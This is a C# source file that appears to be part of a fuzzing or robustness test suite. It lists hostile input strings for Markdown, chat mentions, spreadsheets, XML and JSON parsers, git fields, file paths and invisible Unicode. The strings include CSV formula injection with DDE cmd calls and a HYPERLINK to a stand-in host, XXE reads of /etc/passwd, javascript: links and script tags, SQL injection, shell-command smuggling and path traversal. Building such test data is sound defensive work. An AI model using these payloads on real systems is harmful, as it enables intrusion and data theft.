namespace Torture.Hostile.Contexts.Payloads;

/// <summary>Text with a meaning in Markdown, chat services, spreadsheets, data parsers or git.</summary>
internal static class TextPayloads
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "'=", "''=", " =", "\u00A0=", "\uFEFF=", "\u200B=", "\"=", ",=", ";=", "\",=", "\r\n=", "\0=", "|"];

    private static readonly string[] Formulas = ["cmd|' /C xq'!A0", "HYPERLINK(\"http://xq.example/?\"&A1,\"xq\")", "1+1", "SUM(A1:A9)*xq", "IMPORTXML(\"http://xq.example\",\"//a\")", "DDE(\"cmd\";\"/C xq\";\"x\")", "xq"];

    public static IEnumerable<string> Spreadsheets => Starts.SelectMany((start, index) => Enumerable.Range(0, 3).Select(turn => start + Formulas[(index + (turn * 2)) % Formulas.Length]));

    public static IReadOnlyList<string> Markdown { get; } =
    [
        "[xq](https://xq.example)", "![xq](https://xq.example/x.png)", "[xq]: https://xq.example", "[xq][1]", "[^1]", "[^1]: xq", "<https://xq.example>", "https://xq.example/x", "http://xq.example", "www.xq.example", "WWW.xq.example/x", "wWw.xq.example",
        "ftp://xq.example", "me@xq.example", "mailto:me@xq.example", "xmpp:me@xq.example/x", "@xq", "a/@xq", "@org/team", "#1", "GH-1", "gh-12", "owner/repo#1", "owner/repo@deadbeef", ":tada:", ":+1:", ":octocat:", "**xq**", "__xq__", "*xq*", "_xq_", "~~xq~~", "~xq~",
        "`xq`", "``xq`xq``", "```\nxq\n```", "~~~\nxq\n~~~", "    xq", "\txq", "# xq", "###### xq", "xq\n===", "xq\n---", "===", "---", "***", "___", "- xq", "* xq", "+ xq", "1. xq", "1) xq", "0. xq", "123456789. xq", "- [ ] xq", "- [x] xq", "> xq", "> [!WARNING]\n> xq", ">>> xq",
        "| xq | xq |", "|\n| --- |\n| xq |", "a|b", "\\|", "\\\\|", "`|`", "`\\|`", "| --- |", ":-:|-:", "xq  \nxq", "xq\\\nxq", "<br>", "<details><summary>xq</summary>", "<!-- xq -->", "&copy;", "&#35;", "$xq$", "$$xq$$", "$`xq`$", "```math\nxq\n```", "```mermaid\ngraph TD\n```",
        "{% include xq %}", "{{< xq >}}", ":::note\nxq\n:::", "\\", "\\\\", "\\`", "`", "``", "![", "](", ")](", "[]()", "[](<", "[xq](<javascript:alert('xq')>)", "[xq](javascript&colon;alert('xq'))", "[xq](data:text/html,xq)", "!\\[xq](https://xq.example)", "a\r\n\r\n# xq", "a\r\r# xq", "a\u2028# xq",
        "a\n\n    xq", "\n\n| a | b |\n|---|---|\n| xq | xq |\n", "- xq\n  - xq", "Term\n: xq", "==xq==", "^xq^", "H~2~O", "||xq||", "-# xq", "[[xq]]", "[[xq|xq]]", "!!xq!!", "*a*b*c*", "**a*", "_a_b", "1\\. xq", "+1", "xq:https://xq.example", "xqhttps://xq.example", "(www.xq.example)", "_www.xq.example_", "a.b@xq.example_",
    ];

    public static IReadOnlyList<string> Mentions { get; } =
    [
        "<!channel>", "<!here>", "<!everyone>", "<@U0123456>", "<#C0123456>", "<!subteam^S0123456>", "<https://xq.example|xq>", "<mailto:me@xq.example|xq>", "<!date^1392734382^{date}|xq>", "&lt;!channel&gt;", "@everyone", "@here", "@channel", "<@123456789012345678>", "<@!123456789012345678>",
        "<@&123456789012345678>", "<#123456789012345678>", "<:xq:123456789012345678>", "<a:xq:123456789012345678>", "<t:1618953630:R>", "</xq:123456789012345678>", "<id:browse>", "\\@everyone", "\\\\@everyone", "@\u200Beveryone", "<at>xq</at>", "<at id=\"0\">xq</at>", "{{DATE(2017-02-14T06:08:39Z,LONG)}}",
        "{{TIME(2017-02-14T06:08:39Z)}}", "{{DATE(2017-02-14T06:08:39Z, SHORT)}} {{TIME(2017-02-14T06:08:39Z)}}", "${$root.xq}", "${if(true,'xq','')}", "@[xq](user:1)", "*xq*", "_xq_", "~xq~", "`xq`", "```xq```", ">xq", "&", "&amp;", "&amp", "&lt;", "discord.gg/xq", "https://discord.gg/xq", "tel:+1234567890", "skype:xq?call",
    ];

    public static IReadOnlyList<string> Machines { get; } =
    [
        "<!DOCTYPE x [<!ENTITY xq SYSTEM \"file:///etc/passwd\">]><x>&xq;</x>", "<!ENTITY % xq SYSTEM 'http://xq.example/x.dtd'> %xq;", "&xq;", "&#0;", "&#x1F;", "&#xFFFE;", "]]>", "]]><xq/>", "<![CDATA[xq]]>", "<?xml-stylesheet href='http://xq.example/x.xsl'?>", "<?xq?>", "</testcase><testcase name=\"xq\">",
        "\"/><failure message=\"xq", "</failure></testcase><testcase name=\"xq\"/>", "\" tests=\"0", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>", "xmlns:xq=\"urn:xq\"", "\uFFFE", "\uFFFF", "\u000B", "\u0001", "<system-out>[[ATTACHMENT|/etc/passwd]]</system-out>", "[[ATTACHMENT|/etc/passwd]]",
        "[[PROPERTY|xq=xq]]", "\"} 1\nxq_injected 1", "\\\"} 1\nxq_injected 1", "xq\",evil=\"xq", "\\", "\\\\", "\\\"", "\\n", "\n# EOF\n", "# EOF", "\n# TYPE xq counter\nxq_total 1", "} 1", "{xq=\"1\"}", "\"} NaN", "\"} 1 # {trace_id=\"xq\"} 1", "\n\n", "\\x", "\u2424", "\",\"xq\":\"xq", "\"}],\"xq\":[{\"", "\\\",\"xq\":1,\"", "\\u0022,\"xq\":1",
        "\\u0000", "__proto__", "constructor", "{\"$ref\":\"#\"}", "{\"__proto__\":{\"xq\":1}}", "null", "true", "1e999", "NaN", "-0", "0x1F", "[]", "{}", "\"", "\"\"", "\"\"\"", "a,b", "a\"b,c\"d", "\",\"", "\r\n\",\"", "a\r\nb", "a\nb", "a\rb", ",", ";", "\t", "\"\n\"", "sep=;", "ID;xq", "'; DROP TABLE xq;--", "%s%n%x", "%08x", "{0}{1}{9}", "{0:xq}", "\\{{",
    ];

    public static IReadOnlyList<string> Git { get; } =
    [
        "xq\nSigned-off-by: Xq <xq@xq.example>", "xq\n\nCo-authored-by: Xq <xq@xq.example>", "xq\n\nskip-checks: true\n", "\n# xq", "# xq", "; xq", "#xq", "xq\n# ------------------------ >8 ------------------------\nxq", "---\nxq", "xq\n---\ndiff --git a/xq b/xq", "diff --git a/xq b/xq\n--- a/xq\n+++ b/xq", "Fixes #1", "closes owner/repo#1",
        "[skip ci]", "[ci skip]", "[no ci]", "[skip actions]", "***NO_CI***", "[skip azurepipelines]", "@xq", "fixup! xq", "squash! xq", "amend! xq", "$(touch xq)", "`touch xq`", "; touch xq", "| touch xq", "&& touch xq", "-m xq", "--amend", "--upload-pack=xq", "-F /etc/passwd", "%H%n%an", "xq\0xq", "\u00A0\nReviewed-by: xq", "xq\u2028Acked-by: xq", "xq\u0085Acked-by: xq",
        "xq\rAcked-by: xq", "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001", "gpgsig xq", "tree xq\nparent xq", "refs/heads/xq", "HEAD^", "@{-1}", ":/xq", "\e[31mcommit xq\e[m",
    ];

    public static IReadOnlyList<string> Paths { get; } =
    [
        "../../xq", "..\\..\\xq", "/etc/xq", "C:\\xq", "c:xq", "\\\\xq\\share", "//xq/share", "a/../../xq", "./xq", "xq/", "/", ".", "..", "...", "xq.", "xq ", " xq", "con", "NUL.txt", "COM1", "xq:stream", "xq::$DATA", "~/xq", "~root", "-rf", "--help", ".git/config", ".gitattributes", ".htaccess", "%2e%2e%2fxq", "..%2fxq", "%00", "%2F", "..;/xq",
        "\u2215etc", "..\uFF0Fxq", "xq?y=1", "xq#z", "xq?", "xq%", "latest", "latest.json", "manifest", "manifest.json", "index", "index.html", "xq\0.png", "xq\n.png", "xq\u202Egnp", "a//b", "a\\b", "*", "?", "<>|:\"", "xq'xq", "$HOME", "%USERPROFILE%", "file:///etc/passwd", "s3://xq/xq", "\u212Bxq", "e\u0301xq", "video_generation_results_xq", "retry_queue_xq", ".xq", "xq.mp4",
    ];

    public static IReadOnlyList<string> Invisible { get; } =
    [
        "a\u202Ab\u202Cxq", "a\u202Bb", "a\u202Db", "xq\u202Egnp.exe", "a\u2066b\u2069", "a\u2067b", "a\u2068b", "a\u200Eb", "a\u200Fb", "a\u061Cb", "\u202E", "a\u200Bb", "a\u200Cb", "a\u200Db", "a\u2060b", "\uFEFFxq", "a\u00ADb", "a\u180Eb", "a\u034Fb", "a\u2061b", "a\uFFF9b\uFFFAc\uFFFBd", "\U000E0041\U000E0042xq\U000E007F", "\uFE0Fxq", "a\U000E0100",
        "\uD800", "\uDC00", "a\uD83Cb", "\uDFAC\uD83C", "\uD83C\uD83C\uDFAC", "\uFDD0", "\U0001FFFE", "\uFFFD", "\u3164", "\u115F", "\u2800", "\u3000", "\u00A0", " ", "  ", "\t", "\n", "\r\n", "x\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629", "\u05E2\u05D1\u05E8\u05D9\u05EA xq (1)", "\uFDFD", "\U0001F469\u200D\U0001F680", "\U0001F1E9\U0001F1EA", "夕焼け xq",
        "\u0001\u0002\u0003", "\u0008\u000B\u000C\u000E", "\u001C\u001D\u001E\u001F", "\u007F\u0080\u0081\u009F", "\u2028", "\u2029", "\u0085", "a\U0001D173b", "a\u206Ab\u206Fc", "a\U00013430b",
    ];

    public static IEnumerable<string> Long { get; } =
    [
        new string('x', 10_000), new string('<', 5_000), new string('&', 5_000), new string('"', 5_000), new string('`', 3_000), new string('[', 3_000), new string('(', 3_000), new string('\\', 3_000), new string('\u202E', 2_000), new string('|', 2_000), new string('*', 3_000), new string('_', 3_000), new string(':', 3_000), new string('#', 3_000),
        string.Concat(Enumerable.Repeat("\U0001F3AC", 3_000)), string.Concat(Enumerable.Repeat("> ", 500)) + "xq", string.Concat(Enumerable.Repeat("<b>", 2_000)), string.Concat(Enumerable.Repeat("&lt;", 2_000)), string.Concat(Enumerable.Repeat("\n", 2_000)) + "xq", string.Concat(Enumerable.Repeat("\e[31m", 1_000)), string.Concat(Enumerable.Repeat("::error::", 500)),
        string.Concat(Enumerable.Repeat("@everyone ", 400)), string.Concat(Enumerable.Repeat("e\u0301", 2_000)), new string('x', 89) + "<script>alert('xq')</script>", new string('x', 298) + "\\\\\\", new string('x', 149) + "\U0001F3AC<!channel>", new string('x', 199) + "&amp;&amp;",
    ];
}
